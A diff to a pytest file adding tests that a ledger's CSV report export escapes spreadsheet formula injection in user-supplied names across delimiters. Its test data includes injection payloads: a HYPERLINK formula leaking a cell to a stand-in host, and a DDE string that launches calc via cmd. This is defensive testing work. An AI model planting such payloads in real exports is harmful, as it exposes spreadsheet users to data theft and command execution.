@@ -1,5 +1,6 @@
 """Reports of a ledger on SQLite and PostgreSQL: every row, in order, in bounded memory, with new attempts."""
 
+import csv
 import io
 import json
 import tracemalloc
@@ -7,6 +8,7 @@ from contextlib import closing
 
 import pytest
 
+from oint.csv_escaping import escape_formulas
 from oint.refusals.input import InputRow, RowError
 from oint.refusals.ledger import open_ledger, planning
 from oint.refusals.ledger.approval import approve
@@ -92,6 +94,38 @@ def test_shop_number_never_becomes_formula(ledger, tmp_path):
     assert write_xlsx(read_report_rows(ledger, batch), tmp_path / "a.xlsx") == 4
     sheet = calamine.CalamineWorkbook.from_path(str(tmp_path / "a.xlsx")).get_sheet_by_index(0).to_python()
     assert [row[3] for row in sheet[1:]] == names
+
+
+SCARY = [
+    'IM-1,=HYPERLINK("http://x/?"&A1)',
+    "IM-2;=1+1",
+    'IM-3, "=1+1',
+    "IM-4\n=1+1",
+    "＝1+1",
+    "＋7",
+    "－2",
+    "＠SUM(A1)",
+    " =1+1",
+    '"=1+1',
+    "IM-5,-2+3+cmd|' /C calc'!A0",
+    "=a,=b;@c",
+]
+
+
+@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
+def test_no_locale_finds_formula_in_csv(ledger, delimiter):
+    batch = plan_batch(ledger, [InputRow(number, None, None, name, None) for number, name in enumerate(SCARY, 2)])
+    sink = io.BytesIO()
+    write_csv(read_report_rows(ledger, batch), sink)
+    text = sink.getvalue().decode("utf-8-sig")
+    cells = [cell.strip(' "') for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
+    assert not [line for line in text.splitlines() if line.startswith(("=", "+", "-", "@"))]
+
+
+@pytest.mark.parametrize("text", ["IM-1", "Омск, -5, 7", "a=b", "+", "тел. 7,+7 999", "[-1,-2]", "a;-2.5"])
+def test_harmless_text_gets_no_apostrophe_inside(text):
+    assert escape_formulas(text).removeprefix("'") == text
 
 
 def test_rows_beyond_sheet_limit_go_to_further_sheet(ledger, tmp_path):
